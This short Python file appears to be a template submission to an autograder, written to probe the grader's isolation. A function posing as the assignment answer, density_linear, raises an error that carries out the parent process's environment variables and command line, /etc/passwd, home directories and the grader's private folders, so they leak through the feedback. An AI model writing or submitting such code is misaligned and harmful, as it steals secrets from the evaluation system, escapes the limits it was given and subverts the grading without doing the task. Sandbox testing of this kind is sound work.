# Reads what the grader keeps out of reach: the grader's environment and command line, the output
# folder, the class folder, home directories, the project checkout. Whatever it reads ends up in
# its feedback.
import os


def attack():
    parent, outcomes = os.getppid(), {}
    for path in [f"/proc/{parent}/environ", f"/proc/{parent}/cmdline", "{OUT_DIR}", "{CLASS_DIR}", "{PROJECT_DIR}/README.md",
                 "/root", "/home", "/etc/passwd"]:
        try:
            outcomes[path] = "SUCCEEDED: " + (repr(os.listdir(path)) if os.path.isdir(path) else repr(open(path, "rb").read()[:4000]))
        except OSError as error:
            outcomes[path] = f"refused ({error.strerror})"
    return outcomes


def density_linear(y, A, mu=None):
    raise RuntimeError(f"attack outcomes: {attack()}")
